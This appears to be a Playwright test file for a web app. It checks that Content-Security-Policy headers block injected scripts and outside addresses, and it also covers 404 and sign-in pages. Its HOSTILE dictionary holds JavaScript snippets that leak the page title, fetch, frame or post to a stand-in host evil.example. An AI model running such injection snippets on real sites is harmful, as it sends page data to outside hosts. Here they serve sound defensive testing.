"""The headers in a real browser: nothing that the pages need is refused, and what they do not need is."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, expect

from tests.conftest import Served
from tests.pages.app_runs import EXAMPLE
from tests.pages.browser_actions import LATER, SOON, reader

pytestmark = pytest.mark.campaign

COUNT = """window.directives = [];
           document.addEventListener('securitypolicyviolation', violation => {
               window.directives.push(violation.effectiveDirective);
           })"""


def test_an_uploaded_file_is_read_without_what_the_policy_refuses(browser: Browser, served: Served) -> None:
    """Every page of every role does without it in ``test_browser_roles``."""
    reading = reader(browser, served.url)
    reading.begin_as("enterprise", at="upload")
    reading.page.set_input_files("input[type=file]", EXAMPLE)
    expect(reading.page.get_by_text(reading.words("upload.usable", certain=20))).to_be_visible(timeout=LATER)
    reading.settle()
    assert (reading.refused, reading.errors, reading.outside) == ([], [], [])
    reading.context.close()


PUT = "const put = (kind, attributes) => document.head.prepend(Object.assign(document.createElement(kind), attributes))"
HOSTILE = {
    "script-src-elem": "put('script', {text: 'window.done = 1'})",
    "script-src": "setTimeout('window.done = 1')",
    "img-src": "new Image().src = 'http://evil.example/' + document.title",
    "connect-src": "fetch('http://evil.example/').catch(() => 0)",
    "frame-src": "put('iframe', {src: 'http://evil.example/'})",
    "form-action": "put('form', {action: 'http://evil.example/', method: 'post', id: 'evil'}); evil.submit()",
    "base-uri": "put('base', {href: 'http://evil.example/'})",
}


def test_what_a_planted_script_or_address_would_do_is_refused(browser: Browser, served: Served) -> None:
    reading = reader(browser, served.url)
    reading.page.add_init_script(COUNT)
    reading.page.goto(served.url)
    reading.page.locator("#kpi-account").wait_for(timeout=LATER)
    for directive, code in HOSTILE.items():
        reading.page.evaluate(f"() => {{ {PUT}; window.directives = []; {code} }}")
        reading.page.wait_for_function("() => window.directives.length", timeout=SOON)
        assert reading.page.evaluate("window.directives") == [directive]
    assert len(reading.refused) == len(HOSTILE)
    assert reading.page.evaluate("window.done") is None
    assert reading.page.url.startswith(served.url)
    reading.context.close()


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_an_unknown_address_is_reported_to_whoever_is_signed_in_too(
    browser: Browser, served: Served, lang: str
) -> None:
    reading = reader(browser, served.url, "en" if lang == "en" else "zh")
    reading.enter_as("leader")
    reading.page.goto(f"{served.url}/no-such-page")
    expect(reading.page.get_by_text(reading.words("refused.path"))).to_be_visible()
    expect(reading.page.get_by_text("Page not found")).to_have_count(0)
    reading.page.get_by_role("link", name=reading.words("refused.home")).click()
    expect(reading.page.locator(".st-key-reader")).to_be_visible(timeout=LATER)
    reading.context.close()


def test_the_address_of_the_sign_in_is_a_page_and_leads_on_whoever_is_signed_in(
    browser: Browser, served: Served
) -> None:
    reading = reader(browser, served.url, "en")
    reading.page.goto(f"{served.url}/sign-in?lang=en")
    reading.page.locator("#kpi-account").wait_for(timeout=LATER)
    reading.settle()
    expect(reading.page.get_by_text("Page not found")).to_have_count(0)
    reading.enter_as("leader")
    reading.page.goto(f"{served.url}/sign-in?lang=en")
    expect(reading.page.get_by_role("heading", name=reading.words("title.home"), exact=True)).to_be_visible(
        timeout=LATER
    )
    expect(reading.page.get_by_text("Page not found")).to_have_count(0)
    reading.page.goto(f"{served.url}/scoring?lang=en")
    expect(reading.page.get_by_text(reading.words("nothing_here"))).to_be_visible(timeout=LATER)
    onward = reading.words("home.next", page=reading.words("title.home"))
    expect(reading.page.get_by_role("link", name=onward)).to_be_visible(timeout=SOON)
    reading.context.close()
